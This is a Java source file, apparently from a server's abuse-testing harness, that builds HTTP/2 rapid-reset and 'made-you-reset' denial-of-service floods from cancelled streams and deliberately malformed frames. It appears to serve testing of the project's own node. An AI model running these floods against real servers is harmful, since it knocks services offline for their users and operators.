package io.highwater.abuse;

import java.io.ByteArrayOutputStream;
import java.util.List;

/** Streams that are opened to be reset, by the client or, with a frame too many, by the node. */
final class ResetAttacks {
    private static final int STREAMS_A_CHUNK = 200;

    /** Fewer events than one TCP connection was once allowed at once. */
    private static final int BEFORE_RECONNECTING = 12_000;

    private static final int NEVER = Integer.MAX_VALUE;

    private ResetAttacks() {}

    static List<Attack> all() {
        return List.of(
                resets("rapid-reset", "requests that are reset at once", 4, NEVER, Reset.CANCEL),
                resets(
                        "rapid-reset-reconnecting",
                        "issue 8: the same, on a new TCP connection each 12,000 streams",
                        4,
                        BEFORE_RECONNECTING,
                        Reset.CANCEL),
                resets(
                        "rapid-reset-sockets",
                        "WebSocket streams that are reset at once, reconnecting",
                        4,
                        BEFORE_RECONNECTING,
                        Reset.CANCEL_SOCKET),
                made("window-of-0", "a WINDOW_UPDATE of 0", Reset.WINDOW_UPDATE_OF_0),
                made("window-overflow", "a window beyond 2^31", Reset.WINDOW_OVERFLOW),
                made("data-after-end", "DATA behind the END_STREAM", Reset.DATA_AFTER_END),
                made("headers-after-end", "HEADERS behind the END_STREAM", Reset.HEADERS_AFTER_END),
                made("trailers-after-end", "trailers behind it", Reset.TRAILERS_AFTER_END),
                made("content-length", "more than the content-length", Reset.CONTENT_LENGTH),
                made("self-dependency", "a PRIORITY on itself", Reset.SELF_DEPENDENCY),
                made("bad-frame-length", "a PRIORITY of four bytes", Reset.PRIORITY_LENGTH),
                made("bad-header", "a header in capitals", Reset.BAD_HEADER),
                made("bad-socket", "an upgrade that is refused", Reset.BAD_SOCKET));
    }

    private static Attack made(String name, String with, Reset reset) {
        return resets(
                "made-you-reset-" + name,
                "streams that the node must reset, for " + with,
                4,
                BEFORE_RECONNECTING,
                reset);
    }

    private static Attack resets(String name, String claim, int lines, int streams, Reset reset) {
        return Crowd.of(name, claim, lines, scene -> new Resetting(scene, reset, streams));
    }

    /** How a stream comes to its end, from its first frame on. */
    private enum Reset {
        CANCEL {
            @Override
            void write(ByteArrayOutputStream out, int port, int stream) {
                get(out, port, stream);
                out.writeBytes(Http2.reset(stream));
            }
        },
        CANCEL_SOCKET {
            @Override
            void write(ByteArrayOutputStream out, int port, int stream) {
                byte[] block = Http2.connect(port, "/v1/echo");
                out.writeBytes(Http2.frame(Http2.HEADERS, Http2.END_HEADERS, stream, block));
                out.writeBytes(Http2.reset(stream));
            }
        },
        WINDOW_UPDATE_OF_0 {
            @Override
            void write(ByteArrayOutputStream out, int port, int stream) {
                get(out, port, stream);
                out.writeBytes(Http2.widen(stream, 0));
            }
        },
        WINDOW_OVERFLOW {
            @Override
            void write(ByteArrayOutputStream out, int port, int stream) {
                get(out, port, stream);
                out.writeBytes(Http2.widen(stream, Integer.MAX_VALUE));
            }
        },
        DATA_AFTER_END {
            @Override
            void write(ByteArrayOutputStream out, int port, int stream) {
                get(out, port, stream);
                out.writeBytes(Http2.frame(Http2.DATA, 0, stream, new byte[1]));
            }
        },
        HEADERS_AFTER_END {
            @Override
            void write(ByteArrayOutputStream out, int port, int stream) {
                get(out, port, stream);
                get(out, port, stream);
            }
        },
        TRAILERS_AFTER_END {
            @Override
            void write(ByteArrayOutputStream out, int port, int stream) {
                get(out, port, stream);
                int flags = Http2.END_HEADERS | Http2.END_STREAM;
                // An empty user-agent, by its number in the static table.
                out.writeBytes(Http2.frame(Http2.HEADERS, flags, stream, new byte[] {(byte) 0xBA}));
            }
        },
        CONTENT_LENGTH {
            @Override
            void write(ByteArrayOutputStream out, int port, int stream) {
                byte[] block = Http2.request("POST", port, "/", "content-length", "1");
                out.writeBytes(Http2.frame(Http2.HEADERS, Http2.END_HEADERS, stream, block));
                out.writeBytes(Http2.frame(Http2.DATA, Http2.END_STREAM, stream, new byte[9]));
            }
        },
        SELF_DEPENDENCY {
            @Override
            void write(ByteArrayOutputStream out, int port, int stream) {
                get(out, port, stream);
                byte[] itself = Http2.join(Http2.number(stream), new byte[1]);
                out.writeBytes(Http2.frame(Http2.PRIORITY, 0, stream, itself));
            }
        },
        PRIORITY_LENGTH {
            @Override
            void write(ByteArrayOutputStream out, int port, int stream) {
                get(out, port, stream);
                out.writeBytes(Http2.frame(Http2.PRIORITY, 0, stream, new byte[4]));
            }
        },
        BAD_HEADER {
            @Override
            void write(ByteArrayOutputStream out, int port, int stream) {
                byte[] block = Http2.request("GET", port, "/", "UPPER", "case");
                int flags = Http2.END_HEADERS | Http2.END_STREAM;
                out.writeBytes(Http2.frame(Http2.HEADERS, flags, stream, block));
            }
        },
        BAD_SOCKET {
            @Override
            void write(ByteArrayOutputStream out, int port, int stream) {
                byte[] block = Http2.connect(port, "/nix");
                out.writeBytes(Http2.frame(Http2.HEADERS, Http2.END_HEADERS, stream, block));
            }
        };

        abstract void write(ByteArrayOutputStream out, int port, int stream);

        private static void get(ByteArrayOutputStream out, int port, int stream) {
            byte[] block = Http2.request("GET", port, "/app.js");
            int flags = Http2.END_HEADERS | Http2.END_STREAM;
            out.writeBytes(Http2.frame(Http2.HEADERS, flags, stream, block));
        }
    }

    private static final class Resetting extends Http2Hostile {
        private final Reset reset;
        private final int streams;
        private int opened;

        Resetting(Scene scene, Reset reset, int streams) {
            // So that no answer is written before the stream is reset.
            super(scene, 0);
            this.reset = reset;
            this.streams = streams;
        }

        @Override
        void onOpen(Line line) {}

        @Override
        void onSent(Line line) {
            if (opened >= streams) {
                line.close();
                return;
            }
            ByteArrayOutputStream chunk = new ByteArrayOutputStream();
            for (int i = 0; i < STREAMS_A_CHUNK; i++) {
                reset.write(chunk, port, nextStream());
            }
            opened += STREAMS_A_CHUNK;
            line.send(chunk.toByteArray());
        }
    }
}
